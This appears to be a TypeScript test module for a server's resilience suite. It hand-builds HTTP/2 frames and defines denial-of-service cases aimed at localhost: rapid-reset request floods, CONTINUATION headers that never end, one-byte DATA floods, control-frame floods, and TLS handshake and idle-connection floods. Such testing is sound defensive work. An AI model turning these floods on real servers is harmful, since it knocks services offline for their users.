/** Frames of HTTP/2 (RFC 9113), written by hand: no client library sends them. */
import { type Attack, flood } from "./attack.ts";
import { repeated } from "./frames.ts";
import type { Attacker, Line } from "./peer.ts";

export const TYPE = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  windowUpdate: 8,
  continuation: 9,
} as const;

const END_STREAM = 1;
const END_HEADERS = 4;
const PIECE = 64 * 1024;

/** The bytes of one frame. */
export function http2Frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array | string = "",
): Buffer {
  const data = Buffer.from(payload);
  const head = Buffer.alloc(9);
  head.writeUIntBE(data.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream >>> 0, 5);
  return Buffer.concat([head, data]);
}

/** A header block without compression: the method, the scheme, `localhost` and this path (RFC 7541). */
export function headerBlock(method: "GET" | "POST", path: string): Buffer {
  const literal = (name: number, value: string): Buffer =>
    Buffer.concat([Buffer.of(name, value.length), Buffer.from(value)]);
  return Buffer.concat([
    Buffer.of(method === "GET" ? 0x82 : 0x83, 0x87),
    literal(4, path),
    literal(1, "localhost"),
  ]);
}

export const PREFACE = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  http2Frame(TYPE.settings, 0, 0),
]);

/** A request without a body, on this stream. */
export const get = (stream: number, path: string): Buffer =>
  http2Frame(TYPE.headers, END_STREAM | END_HEADERS, stream, headerBlock("GET", path));

const four = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

async function session(attacker: Attacker): Promise<Line> {
  const line = await attacker.open({ protocol: "h2" });
  await line.send(Buffer.concat([PREFACE, http2Frame(TYPE.windowUpdate, 0, 0, four(2 ** 30))]));
  return line;
}

/** Floods sessions; `make` receives the number of the next client stream. */
const onSession = (make: (stream: number) => Buffer, begin?: Buffer): Pick<Attack, "settings" | "run"> => ({
  settings: { host: "tls" },
  run: (attacker, goOn) => {
    let stream = 1;
    return flood(
      async () => {
        const line = await session(attacker);
        stream = 1;
        if (begin) await line.send(begin);
        return line;
      },
      () => make((stream += 2)),
      goOn,
    );
  },
});

const many = (count: number, make: (stream: number) => Buffer): ((stream: number) => Buffer) => {
  let next = 1;
  return (first) => {
    if (first === 3) next = 3;
    const all: Buffer[] = [];
    for (let n = 0; n < count; n++, next += 2) all.push(make(next));
    return Buffer.concat(all);
  };
};

const BODY = http2Frame(TYPE.headers, END_HEADERS, 1, headerBlock("POST", "/connect"));

export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: "requests over HTTP/2, as many as it takes",
    ...onSession(many(100, (stream) => get(stream, "/channels/none"))),
  },
  {
    name: "requests over HTTP/2 that are reset at once",
    ...onSession(
      many(100, (stream) =>
        Buffer.concat([get(stream, "/channels/none"), http2Frame(TYPE.reset, 0, stream, four(8))]),
      ),
    ),
  },
  {
    name: "event streams over HTTP/2 that are reset at once",
    ...onSession(
      many(100, (stream) =>
        Buffer.concat([
          get(stream, "/events?channel=a&channel=b"),
          http2Frame(TYPE.reset, 0, stream, four(8)),
        ]),
      ),
    ),
  },
  {
    name: "a body over HTTP/2 in frames of one byte",
    ...onSession(() => repeated(http2Frame(TYPE.data, 0, 1, "x"), PIECE), BODY),
  },
  {
    name: "a body over HTTP/2 in frames of one byte that nobody reads",
    ...onSession(
      () => repeated(http2Frame(TYPE.data, 0, 1, "x"), PIECE),
      http2Frame(TYPE.headers, END_HEADERS, 1, headerBlock("GET", "/channels/a?wait=50")),
    ),
  },
  {
    name: "a body over HTTP/2 in frames without a byte",
    ...onSession(() => repeated(http2Frame(TYPE.data, 0, 1), PIECE), BODY),
  },
  { name: "pings of HTTP/2", ...onSession(() => repeated(http2Frame(TYPE.ping, 0, 0, "12345678"), PIECE)) },
  { name: "settings of HTTP/2", ...onSession(() => repeated(http2Frame(TYPE.settings, 0, 0), PIECE)) },
  {
    name: "window updates of HTTP/2",
    ...onSession(() => repeated(http2Frame(TYPE.windowUpdate, 0, 0, four(1)), PIECE)),
  },
  {
    name: "priorities of HTTP/2",
    ...onSession(
      many(1_000, (stream) => http2Frame(TYPE.priority, 0, stream, Buffer.concat([four(0), Buffer.of(1)]))),
    ),
  },
  {
    name: "a header block over HTTP/2 that does not end",
    ...onSession(
      () => repeated(http2Frame(TYPE.continuation, 0, 1, "\0\x01x\x01y".repeat(100)), PIECE),
      http2Frame(TYPE.headers, 0, 1, headerBlock("GET", "/channels/none")),
    ),
  },
];

export const TLS_ATTACKS: readonly Attack[] = [
  {
    name: "TLS handshakes, four at once",
    settings: { host: "tls" },
    run: async (attacker, goOn) => {
      await Promise.all(
        Array.from({ length: 4 }, async () => {
          while (goOn()) (await attacker.open()).leave();
        }),
      );
    },
  },
  {
    name: "bytes that are no TLS",
    settings: { host: "tls" },
    run: (attacker, goOn) =>
      flood(() => attacker.open({ bare: true }), "GET / HTTP/1.1\r\n\r\n".repeat(100), goOn),
  },
  {
    name: "500 connections that never shake hands",
    settings: { host: "tls" },
    run: async (attacker, goOn) => {
      await Promise.all(Array.from({ length: 500 }, () => attacker.open({ bare: true })));
      while (goOn()) await new Promise((resolve) => setTimeout(resolve, 20));
    },
  },
];
